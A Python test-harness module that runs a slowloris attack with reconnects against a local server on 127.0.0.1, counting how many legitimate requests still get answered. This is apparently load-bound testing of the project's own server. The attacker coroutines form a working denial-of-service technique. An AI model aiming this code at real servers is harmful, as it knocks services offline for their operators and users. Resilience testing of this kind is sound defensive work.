"""A slowloris attack with reconnects against a server on loopback, while a legitimate client
asks: how many of its requests got an answer (issue 23, item 10). Used by tests/test_bounds.py
and scripts/attack.py.

The attackers open connections and trickle a request head one header a second, never
finishing it; a connection the server closes is opened again at once. Every loop is bounded
in time, and only 127.0.0.1 is contacted.
"""

from __future__ import annotations

import asyncio
import time
from dataclasses import dataclass

HEAD = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n"
REQUEST = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"


@dataclass
class Outcome:
    answered: int  # legitimate requests answered 200
    refused: int  # answered otherwise (503), or not at all
    attacker_connections: int  # connections the attackers opened in all


async def _attacker(port: int, until: float, opened: list[int]) -> None:
    while time.monotonic() < until:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
        except OSError:
            await asyncio.sleep(0.05)
            continue
        opened[0] += 1
        try:
            writer.write(HEAD)
            while time.monotonic() < until and not reader.at_eof():
                await writer.drain()
                await asyncio.sleep(1.0)
                writer.write(b"X-Slow: 1\r\n")
        except OSError:
            pass  # the server closed it: open another
        finally:
            writer.close()


async def _legitimate(port: int, requests: int, pause: float) -> tuple[int, int]:
    answered = refused = 0
    for _ in range(requests):
        try:
            reader, writer = await asyncio.wait_for(asyncio.open_connection("127.0.0.1", port), 5)
            writer.write(REQUEST)
            status = await asyncio.wait_for(reader.readline(), 5)
            writer.close()
        except (OSError, TimeoutError):
            status = b""
        if status.split(b" ")[1:2] == [b"200"]:
            answered += 1
        else:
            refused += 1
        await asyncio.sleep(pause)
    return answered, refused


async def _attack(port: int, attackers: int, requests: int, seconds: float) -> Outcome:
    until = time.monotonic() + seconds
    opened = [0]
    tasks = [asyncio.create_task(_attacker(port, until, opened)) for _ in range(attackers)]
    await asyncio.sleep(2.0)  # the attackers hold their connections first
    answered, refused = await _legitimate(port, requests, (seconds - 3.0) / requests)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    return Outcome(answered, refused, opened[0])


def slowloris(port: int, attackers: int = 300, requests: int = 90, seconds: float = 14.0) -> Outcome:
    """Run `attackers` slow connections for `seconds`, asking `requests` times meanwhile."""
    return asyncio.run(_attack(port, attackers, requests, seconds))
